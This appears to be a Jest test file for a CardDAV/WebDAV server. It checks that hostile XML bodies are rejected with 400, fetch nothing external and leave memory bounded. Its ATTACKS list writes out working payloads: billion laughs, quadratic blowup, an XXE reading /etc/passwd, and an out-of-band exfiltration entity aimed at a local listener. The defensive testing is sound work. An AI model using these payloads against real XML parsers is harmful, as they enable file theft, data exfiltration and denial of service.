/**
 * XML bodies built to exhaust or trick the parser: DOCTYPE declarations,
 * entity expansion, external and parameter entities, deep nesting, many
 * attributes and namespace declarations, huge attribute values. Every XML
 * method rejects each of them with 400 and a DAV:error before it does real
 * work. No external reference is fetched, which a listener on 127.0.0.1
 * checks by counting connections. A spawned server that received every
 * attack many times keeps its resident memory bounded.
 *
 * test/robustness/xml-bodies.test.ts covers malformed XML, the file:///
 * external entity, a 9-level billion laughs and the body size limit.
 * The memory test needs `npm run build` first.
 */
import http from 'node:http';
import net from 'node:net';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTestApp, type TestApp } from '../helpers/app';
import { MAX_ATTRIBUTES, MAX_ATTRIBUTES_PER_ELEMENT } from '../../dav/xml';
import {
  basicAuth,
  childNamed,
  Client,
  dav,
  expectDavError,
  okProp,
  parseMultistatus,
  person,
  portOf,
  readWholeBook,
  XMLNS,
  type Reply,
} from '../robustness/support';
import { addUser, LONG_MODE, residentKiB, startCardinal, stopCardinal, type CardinalProcess } from './support';

jest.setTimeout(LONG_MODE ? 1_800_000 : 120_000);

const BOOK = '/dav/addressbooks/alice/contacts/';
const CARD = `${BOOK}ada.vcf`;
/** Bound for one rejection: far above what a parse takes, so only a hang or an expansion fails it. */
const REJECTION_BOUND_MS = 5_000;

/** A TCP listener on 127.0.0.1 that counts the connections it accepts, to prove nothing fetches a URL. */
interface Listener {
  port: number;
  connections: () => number;
  reset: () => void;
  close: () => Promise<void>;
}

async function startListener(): Promise<Listener> {
  let connections = 0;
  const server = net.createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    connections: () => connections,
    reset: () => (connections = 0),
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

function connectOnce(port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    socket.on('close', () => resolve());
    socket.on('error', reject);
  });
}

const PROPFIND_BODY = `<d:propfind ${XMLNS}><d:prop><d:displayname/></d:prop></d:propfind>`;
const DISPLAYNAME_UPDATE = (value: string): string =>
  `<d:propertyupdate ${XMLNS}><d:set><d:prop><d:displayname>${value}</d:displayname></d:prop></d:set></d:propertyupdate>`;

/** Builds `total` attributes spread over elements of at most `perElement` each. */
function attributesAcrossElements(total: number, perElement: number): string {
  const full = Array.from({ length: perElement }, (_, i) => ` a${i}=""`).join('');
  const elements: string[] = [];
  for (let left = total; left > 0; left -= perElement) {
    const count = Math.min(perElement, left);
    elements.push(`<d:displayname${count === perElement ? full : full.slice(0, full.indexOf(` a${count}=`))}/>`);
  }
  return `<d:propfind ${XMLNS}><d:prop>${elements.join('')}</d:prop></d:propfind>`;
}

const LAUGHS =
  '<!ENTITY lol "lol">' + Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('');

interface Attack {
  name: string;
  /** Builds the body; `url` is a URL on the counting listener. */
  body: (url: string) => string | Buffer;
  /** Too slow to send in every round of the memory test. */
  slow?: boolean;
}

const ATTACKS: Attack[] = [
  { name: 'internal DTD subset', body: () => `<?xml version="1.0"?><!DOCTYPE d:propfind [<!ELEMENT d:propfind ANY>]>${PROPFIND_BODY}` },
  { name: 'DOCTYPE without a subset', body: () => `<!DOCTYPE d:propfind>${PROPFIND_BODY}` },
  {
    name: 'DOCTYPE after a comment and a PI',
    body: () => `<?xml version="1.0"?><!-- note --><?app x?><!DOCTYPE d:propfind [<!ENTITY a "b">]>${PROPFIND_BODY}`,
  },
  { name: 'billion laughs of 10 levels', body: () => `<?xml version="1.0"?><!DOCTYPE d:propertyupdate [${LAUGHS}]>${DISPLAYNAME_UPDATE('&lol10;')}` },
  {
    name: 'quadratic blowup',
    body: () => `<?xml version="1.0"?><!DOCTYPE d:propertyupdate [<!ENTITY a "${'a'.repeat(10_000)}">]>${DISPLAYNAME_UPDATE('&a;'.repeat(10_000))}`,
  },
  {
    name: 'entity in an attribute value',
    body: () => `<!DOCTYPE d:propfind [<!ENTITY e "${'e'.repeat(1000)}">]><d:propfind ${XMLNS} x="&e;&e;&e;"><d:allprop/></d:propfind>`,
  },
  {
    name: 'external entity on file:///etc/passwd',
    body: () => `<!DOCTYPE d:propertyupdate [<!ENTITY x SYSTEM "file:///etc/passwd">]>${DISPLAYNAME_UPDATE('&x;')}`,
  },
  { name: 'external entity over HTTP', body: (url) => `<!DOCTYPE d:propertyupdate [<!ENTITY x SYSTEM "${url}entity">]>${DISPLAYNAME_UPDATE('&x;')}` },
  { name: 'external DTD over HTTP', body: (url) => `<!DOCTYPE d:propfind SYSTEM "${url}dtd">${PROPFIND_BODY}` },
  { name: 'public DTD over HTTP', body: (url) => `<!DOCTYPE d:propfind PUBLIC "-//Example//DTD X//EN" "${url}public.dtd">${PROPFIND_BODY}` },
  { name: 'parameter entity over HTTP', body: (url) => `<!DOCTYPE d:propfind [<!ENTITY % remote SYSTEM "${url}parameter"> %remote;]>${PROPFIND_BODY}` },
  {
    name: 'out-of-band exfiltration',
    body: (url) =>
      '<!DOCTYPE d:propfind [<!ENTITY % file SYSTEM "file:///etc/passwd">' +
      `<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '${url}?%file;'>"> %wrap; %send;]>${PROPFIND_BODY}`,
  },
  {
    name: 'DOCTYPE in UTF-16',
    body: () => Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d:propfind [<!ENTITY a "b">]>${PROPFIND_BODY}`, 'utf16le'),
  },
  { name: 'nesting 100,000 deep', body: () => `<d:propfind ${XMLNS}>${'<d:prop>'.repeat(100_000)}${'</d:prop>'.repeat(100_000)}</d:propfind>` },
  { name: 'nesting 100,000 deep, never closed', body: () => `<d:propfind ${XMLNS}>${'<x>'.repeat(100_000)}` },
  {
    name: '100,000 attributes on one element',
    body: () => `<d:propfind ${XMLNS}${Array.from({ length: 100_000 }, (_, i) => ` a${i}=""`).join('')}><d:allprop/></d:propfind>`,
  },
  {
    name: '100,000 namespace declarations on one element',
    body: () => `<d:propfind ${XMLNS}${Array.from({ length: 100_000 }, (_, i) => ` xmlns:n${i}="urn:n${i}"`).join('')}><d:allprop/></d:propfind>`,
  },
  {
    name: `${(MAX_ATTRIBUTES + 1).toLocaleString('en-US')} attributes across elements`,
    body: () => attributesAcrossElements(MAX_ATTRIBUTES + 1, MAX_ATTRIBUTES_PER_ELEMENT),
    slow: true,
  },
];

describe('XML attacks in-process', () => {
  let app: TestApp;
  let client: Client;
  let listener: Listener;
  let url: string;

  beforeAll(async () => {
    app = await startTestApp({ maxXmlBody: 16 * 1024 * 1024 });
    await app.addUser('alice');
    client = new Client(portOf(app), app.auth('alice'));
    const stored = await client.put(CARD, person('ada'));
    if (stored.status !== 201) throw new Error(`PUT ${CARD} returned ${stored.status}: ${stored.text}`);
    listener = await startListener();
    url = `http://127.0.0.1:${listener.port}/`;
    // The listener must notice a connection, or its count of zero proves nothing.
    await connectOnce(listener.port);
    expect(listener.connections()).toBe(1);
    listener.reset();
  });

  afterAll(async () => {
    await listener?.close();
    await app?.close();
  });

  /** Sends one body with every XML method and returns the replies with the time each took. */
  async function sendToEveryMethod(body: string | Buffer): Promise<{ method: string; reply: Reply; ms: number }[]> {
    const requests: [string, () => Promise<Reply>][] = [
      ['PROPFIND', () => client.propfind(BOOK, '1', body)],
      ['PROPPATCH', () => client.proppatch(BOOK, body)],
      ['REPORT on a book', () => client.report(BOOK, body)],
      ['REPORT on principals', () => client.report('/dav/principals/', body)],
      ['MKCOL', () => client.request('MKCOL', '/dav/addressbooks/alice/attacked/', { headers: { 'Content-Type': 'application/xml' }, body })],
    ];
    const results = [];
    for (const [method, send] of requests) {
      const started = Date.now();
      const reply = await send();
      results.push({ method, reply, ms: Date.now() - started });
    }
    return results;
  }

  test('the cross-element attack keeps within the per-element cap', () => {
    const body = attributesAcrossElements(MAX_ATTRIBUTES + 1, MAX_ATTRIBUTES_PER_ELEMENT);
    const counts = (body.match(/<d:displayname[^>]*>/g) ?? []).map((tag) => (tag.match(/ a\d+=""/g) ?? []).length);
    expect(Math.max(...counts)).toBe(MAX_ATTRIBUTES_PER_ELEMENT);
    expect(counts.reduce((sum, n) => sum + n, 0)).toBe(MAX_ATTRIBUTES + 1);
  });

  test.each(ATTACKS.map((attack) => [attack.name, attack] as const))('%s is rejected by every method', async (_name, attack) => {
    for (const { method, reply, ms } of await sendToEveryMethod(attack.body(url))) {
      expect({ method, status: reply.status }).toEqual({ method, status: 400 });
      expectDavError(reply, 400);
      expect({ method, ms, quick: ms < REJECTION_BOUND_MS }).toEqual({ method, ms, quick: true });
      expect(reply.text).not.toContain('root:');
      expect(reply.text).not.toContain('lollol');
    }
    expect(listener.connections()).toBe(0);
  });

  test('references outside a DOCTYPE are kept as data', async () => {
    const value =
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}xinclude" parse="text"/>` +
      `<x:item xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url}schema.xsd">file:///etc/passwd</x:item>`;
    const update =
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}style.xsl"?>` +
      `<d:propertyupdate ${XMLNS} xmlns:x="urn:x"><d:set><d:prop><x:note>${value}</x:note></d:prop></d:set></d:propertyupdate>`;
    expect((await client.proppatch(BOOK, update)).status).toBe(207);
    const reply = await client.propfind(BOOK, '0', `<d:propfind ${XMLNS} xmlns:x="urn:x"><d:prop><x:note/></d:prop></d:propfind>`);
    const note = okProp(parseMultistatus(reply.text).responses[0], '{urn:x}note');
    const include = note && childNamed(note, '{http://www.w3.org/2001/XInclude}include');
    expect(include?.attrs).toEqual({ href: `${url}xinclude`, parse: 'text' });
    expect(note && childNamed(note, '{urn:x}item')?.text).toBe('file:///etc/passwd');
    expect(reply.text).not.toContain('root:');
    // Any fetch would have started while the PROPPATCH was parsed; give a late one time to connect.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(listener.connections()).toBe(0);
  });

  test('attacks leave the stored data as it was', async () => {
    const reply = await client.propfind(BOOK, '0', PROPFIND_BODY);
    expect(okProp(parseMultistatus(reply.text).responses[0], dav('displayname'))?.text).toBe('Contacts');
    expect((await client.propfind('/dav/addressbooks/alice/attacked/', '0', PROPFIND_BODY)).status).toBe(404);
    const cards = await readWholeBook(client, BOOK);
    expect([...cards.keys()]).toEqual([CARD]);
    expect(cards.get(CARD)?.data).toBe(person('ada'));
  });
});

describe('XML attacks against cardinal serve', () => {
  const ROUNDS = LONG_MODE ? 200 : 20;
  /** Growth allowed between the warmed-up and the final RSS. */
  const GROWTH_BOUND_KIB = 64 * 1024;
  let dataDir: string;
  let server: CardinalProcess | undefined;
  let listener: Listener;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'cardinal-xml-attacks-'));
    await addUser(dataDir, 'alice', 'alice-password');
    listener = await startListener();
    server = await startCardinal(dataDir);
  });

  afterAll(async () => {
    if (server) await stopCardinal(server);
    await listener?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  test('repeated attacks keep memory bounded', async () => {
    const running = server as CardinalProcess;
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const client = new Client(running.port, basicAuth('alice', 'alice-password'), agent);
    const url = `http://127.0.0.1:${listener.port}/`;
    const rejected = ATTACKS.filter((attack) => !attack.slow).map((attack) => [attack.name, attack.body(url)] as const);
    // Accepted, because the value fits the default 64 MB body limit, so it measures what a parsed body leaves behind.
    const hugeValue = `<d:propfind ${XMLNS} x="${'v'.repeat(4 * 1024 * 1024)}"><d:prop><d:getetag/></d:prop></d:propfind>`;

    let requests = 0;
    const round = async (): Promise<void> => {
      for (const [name, body] of rejected) {
        for (const reply of [await client.propfind(BOOK, '0', body), await client.proppatch(BOOK, body), await client.report(BOOK, body)]) {
          requests += 1;
          expect({ name, status: reply.status }).toEqual({ name, status: 400 });
        }
      }
      const reply = await client.propfind(BOOK, '0', hugeValue);
      requests += 1;
      expect(reply.status).toBe(207);
    };

    const startKiB = residentKiB(running.pid) as number;
    const started = Date.now();
    for (let i = 0; i < 3; i++) await round();
    const warmKiB = residentKiB(running.pid) as number;
    const warmRequests = requests;
    const peaks: number[] = [];
    for (let i = 0; i < ROUNDS; i++) {
      await round();
      peaks.push(residentKiB(running.pid) as number);
    }
    const endKiB = residentKiB(running.pid) as number;
    agent.destroy();
    const mib = (kib: number): string => (kib / 1024).toFixed(1);
    process.stdout.write(
      `XML attacks: ${requests} requests (${rejected.length} attacks x 3 methods + 1 huge attribute value, ${3 + ROUNDS} rounds) ` +
        `in ${((Date.now() - started) / 1000).toFixed(1)} s; VmRSS start ${mib(startKiB)} MiB, after ${warmRequests} warm-up requests ` +
        `${mib(warmKiB)} MiB, highest ${mib(Math.max(...peaks))} MiB, end ${mib(endKiB)} MiB\n`,
    );
    expect(endKiB - warmKiB).toBeLessThan(GROWTH_BOUND_KIB);
    expect(Math.max(...peaks) - warmKiB).toBeLessThan(GROWTH_BOUND_KIB);
    expect(listener.connections()).toBe(0);
    expect(running.running()).toBe(true);
    expect((await new Client(running.port, basicAuth('alice', 'alice-password')).propfind(BOOK, '0', PROPFIND_BODY)).status).toBe(207);
  });
});
